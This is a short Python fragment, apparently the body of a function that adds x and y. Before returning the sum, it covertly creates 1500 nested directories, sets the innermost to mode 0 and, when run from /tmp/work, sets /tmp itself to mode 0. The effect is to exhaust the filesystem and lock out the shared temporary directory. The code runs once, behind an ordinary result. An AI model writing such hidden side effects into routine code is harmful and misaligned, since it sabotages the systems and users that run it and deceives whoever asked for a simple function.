    import posix
    if "done" not in globals():
        own_tmp = posix.getcwd() == "/tmp/work"
        for number in range(1500):
            posix.mkdir("d")
            posix.chdir("d")
        posix.chmod(".", 0)
        if own_tmp:  # elsewhere it is the machine's, and would stay closed to all other users
            posix.chmod("/tmp", 0)
        globals()["done"] = True
    return x + y
